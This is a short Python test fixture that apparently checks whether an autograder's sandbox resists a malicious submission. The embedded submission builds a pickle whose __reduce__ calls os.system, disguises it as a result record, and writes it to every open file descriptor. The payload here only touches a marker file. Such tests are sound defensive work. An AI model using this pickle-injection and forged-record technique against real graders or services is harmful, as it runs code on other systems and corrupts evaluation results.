"""Writes a pickle that would run code in the grader if it were unpickled, framed as a result record."""
BASE = "stub"
EXPECT_MAX = 0
ATTACK = '''import io, os, pickle, zipfile
from autograder.sandbox import wire
class _Exploit:
    def __reduce__(self):
        return (os.system, ("touch @MARKERS@/unpickled",))
def fan_in_and_fan_out(tensor):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/data.pkl", pickle.dumps({"ok": True, "value": (784, 128), "x": _Exploit()}))
        archive.writestr("archive/version", "3\\n")
    for fd in map(int, os.listdir("/proc/self/fd")):
        if fd > 2:
            try:
                wire.write_frame(fd, wire.RECORD, buffer.getvalue())
            except OSError:
                pass
    os._exit(0)
'''
